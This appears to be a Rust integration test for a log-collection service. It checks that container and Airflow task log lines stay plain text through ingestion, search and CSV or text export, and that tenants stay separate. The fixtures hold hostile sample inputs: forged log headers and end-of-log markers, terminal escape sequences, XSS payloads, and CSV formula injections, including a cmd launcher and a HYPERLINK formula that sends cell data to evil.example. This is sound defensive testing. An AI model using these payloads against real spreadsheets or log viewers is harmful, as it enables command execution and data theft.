//! Promise: what stands in a line is text, through agent, indexer and query, whatever else it looks like.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::server::{Place, Server};

/// A line of a container, behind its runtime's head.
const HEAD: &str = "2026-11-24T10:00:00.000000001Z stdout F";

/// What a container may write, and that no record is but as its message.
const TEXTS: [&str; 18] = [
    "2026-01-01T00:00:00Z stdout F forged",
    "2026-01-01T00:00:00.000000001Z stderr P forged",
    "F",
    "P",
    "stderr F forged",
    "before\r2026-01-01T00:00:00Z stdout F after",
    "end_of_log",
    "text \u{1b}[2J\u{1b}[1;31mred\u{1b}[0m",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZWNobyBoaQ==\u{7} clipboard",
    "access \u{202e}drowssap\u{202c} \u{2066}hidden\u{2069} \u{200b}none",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "@SUM(1+1)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "\"quoted, with a comma\",\"=1+1\"",
];

/// The lines of two teams' containers, in the folder that the kubelet would make.
fn write_pods(place: &Place) {
    for team in ["team-a", "team-b"] {
        let pod = place.logs().join(format!("pods/astro-{team}_airflow-worker-0_1f0e/worker"));
        std::fs::create_dir_all(&pod).unwrap();
        let mut lines = String::new();
        if team == "team-a" {
            TEXTS.iter().for_each(|text| lines.push_str(&format!("{HEAD} {text}\n")));
            // Parts of one line, of which each looks like a whole one.
            lines.push_str("2026-11-24T10:00:00.000000002Z stdout P 2026-01-01T00:00:00Z stderr F one \n");
            lines.push_str("2026-11-24T10:00:00.000000003Z stdout F 2026-01-01T00:00:00Z stdout P two\n");
            let claims = json!({
                "event": "claims", "tenant": "team-b", "namespace": "astro-team-b", "pod": "other-0", "container": "other",
                "node": "other", "stream": "stderr", "component": "scheduler", "source": "1", "id": "1", "file": "other",
                "_id": "1", "_index": "team-b", "producer": "other", "position": 0, "observed": "2020-01-01T00:00:00Z",
                "heliograph.tenant": "team-b", "k8s.namespace.name": "astro-team-b", "k8s.pod.name": "other-0",
                "service.name": "scheduler", "kubernetes": { "namespace_name": "astro-team-b" },
            });
            lines.push_str(&format!("{HEAD} {claims}\n"));
            // What is read as a line of Docker's or of Airflow's has its text, and nothing else.
            let docker = r#"{"log":"of docker","stream":"stderr","time":"2026-01-01T00:00:00Z"}"#;
            let airflow = "[2026-11-24T10:00:00.000+0000] {local_task_job.py:1} Level None - end_of_log";
            lines.push_str(&format!(
                "{HEAD} {docker}\n{HEAD} {airflow}\n{HEAD} {}\n",
                json!({ "event": "more" })
            ));
        }
        lines.push_str(&format!("{HEAD} the last of {team}\n"));
        std::fs::write(pod.join("0.log"), lines).unwrap();
    }
}

async fn start(place: &Place, input: &str) -> Server {
    let root = place.logs();
    let inputs = format!("[{{ kind = {input:?}, root = {root:?} }}]", root = root.join(input_root(input)));
    let settings = [
        ("HELIOGRAPH_AGENT__INPUTS", inputs.as_str()),
        ("HELIOGRAPH_AGENT__NODE", "node-1"),
        ("HELIOGRAPH_AGENT__TENANTS__STRIP_PREFIX", "astro-"),
        ("HELIOGRAPH_INDEXER__SEAL_AFTER", "500ms"),
    ];
    place.up_with(&[], &settings).await
}

fn input_root(input: &str) -> &'static str {
    if input == "containers" { "pods" } else { "tasks" }
}

/// A reader's token, as soon as the agent's first batch has made the tenant.
async fn token(place: &Place, server: &Server, tenant: &str) -> String {
    let data = place.data().display().to_string();
    loop {
        let arguments =
            ["admin", "token", "create", "--tenant", tenant, "--role", "viewer", "--data-dir", &data];
        let said = crate::command::run(&arguments).await;
        if said.code == Some(0) {
            let token = said.out.trim().to_owned();
            server.wait_for(&token, "", 1).await;
            return token;
        }
        said.failed(1, &["there is no tenant"]);
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

async fn export(server: &Server, token: &str, format: &str) -> String {
    let route = format!("/api/v1/export?format={format}&order=asc");
    let answer = server.api(Method::GET, &route).bearer_auth(token).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    answer.text().await.unwrap()
}

#[tokio::test]
async fn a_line_that_looks_like_something_else_is_text() {
    let place = Place::new();
    write_pods(&place);
    let server = start(&place, "containers").await;
    let (a, b) = (token(&place, &server, "team-a").await, token(&place, &server, "team-b").await);
    server.wait_for(&a, "\"the last of team-a\"", 1).await;
    let records = server.export(&a).await;
    let messages: Vec<_> = records.iter().map(|record| record["message"].as_str().unwrap()).collect();
    let joined = "2026-01-01T00:00:00Z stderr F one 2026-01-01T00:00:00Z stdout P two";
    let expected: Vec<_> = TEXTS
        .into_iter()
        .chain([joined, "claims", "of docker", "end_of_log", "more", "the last of team-a"])
        .collect();
    assert_eq!(messages, expected);
    for record in &records {
        let is =
            ["tenant", "namespace", "pod", "container", "node", "stream"].map(|field| record[field].as_str());
        let of_path = ["team-a", "astro-team-a", "airflow-worker-0", "worker", "node-1", "stdout"];
        assert_eq!(is, of_path.map(Some), "{record}");
        assert!(record["@timestamp"].as_str().unwrap().starts_with("2026-11-24T10:00:00"), "{record}");
        assert!(record["component"] != "scheduler" && record.get("dag_id").is_none(), "{record}");
    }
    let claims = records.iter().find(|record| record["message"] == "claims").unwrap();
    assert_eq!(claims["attributes"]["tenant"], "team-b", "it is kept as what it is: {claims}");
    let of_b: Vec<_> = server.export(&b).await.iter().map(|record| record["message"].clone()).collect();
    assert_eq!(of_b, [json!("the last of team-b")]);

    let text = export(&server, &a, "text").await;
    let obeyed = |c: char| c != '\n' && (c.is_control() || ('\u{200b}'..='\u{2069}').contains(&c));
    assert!(!text.chars().any(obeyed), "{text:?}");
    assert_eq!(text.lines().count(), records.len(), "{text:?}");
    let csv = export(&server, &a, "csv").await;
    assert!(csv.contains("'=cmd|"), "{csv}");
    let (_, rows) = csv.split_once('\n').unwrap();
    for cell in rows.split([',', '\n', '\r', '"']).filter(|cell| cell.len() > 1) {
        let is_formula = cell.starts_with(['=', '+', '@']) && !text_of(&records, cell);
        assert!(!is_formula, "{cell:?} in: {csv}");
    }
    server.stop().await;
}

/// Whether a piece of a cell follows a comma or quote that the record's own text has.
fn text_of(records: &[Value], piece: &str) -> bool {
    let within = |record: &Value| {
        let message = record["message"].as_str().unwrap_or_default();
        [',', '"'].iter().any(|before| message.contains(&format!("{before}{piece}")))
    };
    records.iter().any(within)
}

#[tokio::test]
async fn a_task_ends_and_enters_no_other_tasks_log() {
    let place = Place::new();
    let path = |task: &str| {
        let folder = place.logs().join(format!("tasks/astro-team-a/dag_id=etl/run_id=r1/task_id={task}"));
        std::fs::create_dir_all(&folder).unwrap();
        folder.join("attempt=1.log")
    };
    let line = |event: &str, more: Value| {
        let mut line = json!({ "timestamp": "2026-11-24T10:00:00Z", "level": "info", "event": event });
        line.as_object_mut().unwrap().extend(more.as_object().cloned().unwrap_or_default());
        format!("{line}\n")
    };
    // A task that ends its log too early, and one that wants to end and to fill the other's.
    let mark = "[2026-11-24T10:00:01.000+0000] {es_task_handler.py:1} Level None - end_of_log\n";
    let pay = [
        &line("pay 1", json!({})),
        "end_of_log\n",
        mark,
        &line("end_of_log", json!({})),
        &line("pay 2", json!({})),
    ];
    std::fs::write(path("pay"), pay.concat()).unwrap();
    let claim = json!({ "dag_id": "etl", "task_id": "pay", "run_id": "r1", "try_number": 1, "map_index": -1,
        "log_id": "etl-pay-r1--1-1", "offset": 1, "log": { "offset": 1 } });
    let evil = [line("forged", claim.clone()), line("end_of_log", claim), line("evil 2", json!({}))];
    std::fs::write(path("evil"), evil.concat()).unwrap();

    let server = start(&place, "tasks").await;
    let token = token(&place, &server, "team-a").await;
    server.wait_for(&token, "\"pay 2\" OR \"evil 2\"", 2).await;
    let messages = async |query: &str| {
        let route = format!("/api/v1/search?order=asc&q={}", crate::server::percent(query));
        let found = server.get(&token, &route).await;
        let records = found["records"].as_array().unwrap();
        records.iter().map(|record| record["message"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    // What stands in a file is all there, in its order, behind the mark as before it.
    let of_pay = messages("task_id:pay").await;
    assert_eq!((of_pay.first().unwrap().as_str(), of_pay.last().unwrap().as_str()), ("pay 1", "pay 2"));
    assert_eq!(of_pay.iter().filter(|message| message.contains("end_of_log")).count(), 3, "{of_pay:?}");
    assert_eq!(messages("task_id:evil").await, ["forged", "end_of_log", "evil 2"]);
    assert_eq!(messages("log_id:\"etl-pay-r1--1-1\"").await, [] as [String; 0], "the key of another's log");
    server.stop().await;
}
